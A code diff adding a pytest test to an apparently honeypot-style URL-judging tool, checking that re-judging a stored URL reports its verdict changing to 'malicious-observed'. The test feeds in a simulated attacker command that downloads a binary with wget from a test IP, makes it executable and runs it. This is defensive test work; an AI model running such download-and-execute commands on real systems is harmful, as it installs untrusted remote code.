@@ -3,11 +3,14 @@ from __future__ import annotations
 from pathlib import Path
 
 import pytest
+from sqlalchemy import update
 from tests.ops.test_intel_commands import as_json, run
+from tests.pipeline.conftest import ELF, Bench
 
 from urltrap.ops.cli.common import CommandError
 from urltrap.ops.init import init_data_folder
 from urltrap.store import open_store
+from urltrap.store.schema import urls, verdicts
 from urltrap.store.schema_analysis import beliefs
 from urltrap.store.types import from_micros
 
@@ -23,6 +26,23 @@ def test_judging_again_says_what_to_ask_for_and_copes_with_an_empty_store(data: 
     assert isinstance(done.exception, CommandError) and "--replay" in str(done.exception)
     assert as_json("judge", "--replay", "--data", data) == []
     assert "nothing to judge" in run("judge", "--replay", "--data", data).output
+
+
+def test_judging_again_tells_what_became_of_each_verdict(data: Path) -> None:
+    url = "http://198.51.100.9/bot"
+    bench = Bench(data, testing={"public_networks": ["198.51.100.0/24"]})
+    bench.fetcher.bodies[url] = ELF
+    session = bench.visit(b"wget %s -O bot; chmod +x bot; ./bot" % url.encode(), runs=[[b"./bot"]])
+    bench.trap_fetches(url.encode(), session)
+    bench.settle()
+    with bench.store.begin() as connection:
+        connection.execute(update(urls).values(verdict="unknown"))
+        connection.execute(update(verdicts).values(verdict="unknown", rules="1"))
+    bench.close()
+    moved = {"before": "unknown", "now": "malicious-observed", "urls": 1}
+    assert as_json("judge", "--replay", "--data", data) == [moved]
+    shown = run("judge", "--replay", "--data", data).output
+    assert "malicious-observed" in shown and "the same" in shown
 
 
 def test_answers_that_drove_attackers_away_are_shown_with_control_characters_visible(data: Path) -> None:
